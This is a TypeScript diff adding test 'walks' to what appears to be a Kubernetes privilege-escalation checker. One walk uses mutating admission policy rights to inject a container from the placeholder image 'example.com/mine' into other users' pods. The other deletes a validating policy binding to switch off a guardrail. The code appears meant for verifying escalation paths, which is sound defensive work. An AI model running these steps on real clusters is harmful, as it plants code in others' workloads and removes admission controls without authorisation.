@@ -1,0 +1,107 @@
+import { accepted, soon, type Walk } from './walk.ts';
+
+const admission = '/apis/admissionregistration.k8s.io/v1';
+const group = 'admissionregistration.k8s.io';
+
+/** R28 to R30: who writes webhooks and policies changes what others write. */
+export const admissionWalks: readonly Walk[] = [
+  {
+    edge: 'MUTATING_ADMISSION_POLICY',
+    name: 'gives another’s pod a container of its own',
+    to: () => 'admin',
+    grants: ({ user }) => [
+      { to: `user:${user}`, can: [`create,delete mutatingadmissionpolicies@${group}`] },
+      { to: `user:${user}`, can: [`create,delete mutatingadmissionpolicybindings@${group}`] },
+    ],
+    fix: { withoutGrant: 1 },
+    walk: async ({ ask, cluster, id, namespace }) => {
+      const policy = {
+        apiVersion: `${group}/v1`,
+        kind: 'MutatingAdmissionPolicy',
+        metadata: { name: id },
+        spec: {
+          reinvocationPolicy: 'Never',
+          matchConstraints: {
+            namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': namespace } },
+            resourceRules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'] }],
+          },
+          mutations: [
+            {
+              patchType: 'ApplyConfiguration',
+              applyConfiguration: {
+                expression:
+                  'Object{spec: Object.spec{containers: [Object.spec.containers{name: "mine", image: "example.com/mine"}]}}',
+              },
+            },
+          ],
+        },
+      };
+      const binding = {
+        apiVersion: `${group}/v1`,
+        kind: 'MutatingAdmissionPolicyBinding',
+        metadata: { name: id },
+        spec: { policyName: id },
+      };
+      const made = await accepted(
+        () => ask('POST', `${admission}/mutatingadmissionpolicies`, policy),
+        () => ask('POST', `${admission}/mutatingadmissionpolicybindings`, binding),
+      );
+      if (!made) return false;
+      const pod = {
+        apiVersion: 'v1',
+        kind: 'Pod',
+        metadata: { generateName: 'theirs-', namespace },
+        spec: { containers: [{ name: 'a', image: 'b' }] },
+      };
+      const mutated = await soon(async () => {
+        const answer = await cluster.api('POST', `/api/v1/namespaces/${namespace}/pods`, pod);
+        return JSON.stringify(answer.body).includes('example.com/mine');
+      }, 20_000);
+      await ask('DELETE', `${admission}/mutatingadmissionpolicybindings/${id}`);
+      await ask('DELETE', `${admission}/mutatingadmissionpolicies/${id}`);
+      return mutated;
+    },
+  },
+  {
+    edge: 'VAP_BINDING_TAMPER',
+    name: 'takes a policy off, and what it refused is accepted',
+    to: () => 'impact:guardrails-off',
+    grants: ({ id, user, namespace }) => [
+      { to: `user:${user}`, in: namespace, can: ['create configmaps'] },
+      { to: `user:${user}`, can: [`delete validatingadmissionpolicybindings@${group} named ${id}`] },
+    ],
+    objects: ({ id, namespace }) => [
+      {
+        is: `ValidatingAdmissionPolicy ${id}`,
+        spec: {
+          matchConstraints: {
+            resourceRules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['configmaps'] }],
+          },
+          validations: [{ expression: "object.metadata.name != 'forbidden'" }],
+        },
+      },
+      {
+        is: `ValidatingAdmissionPolicyBinding ${id}`,
+        spec: {
+          policyName: id,
+          validationActions: ['Deny'],
+          matchResources: { namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': namespace } } },
+        },
+      },
+    ],
+    fix: { withoutGrant: 1 },
+    walk: async ({ ask, id, namespace }) => {
+      const make = () =>
+        ask('POST', `/api/v1/namespaces/${namespace}/configmaps?dryRun=All`, {
+          apiVersion: 'v1',
+          kind: 'ConfigMap',
+          metadata: { name: 'forbidden', namespace },
+        });
+      if (!(await soon(async () => (await make()).status === 422))) throw new Error('The policy refuses nothing.');
+      return (
+        (await accepted(() => ask('DELETE', `${admission}/validatingadmissionpolicybindings/${id}`))) &&
+        soon(async () => (await make()).status < 300)
+      );
+    },
+  },
+];
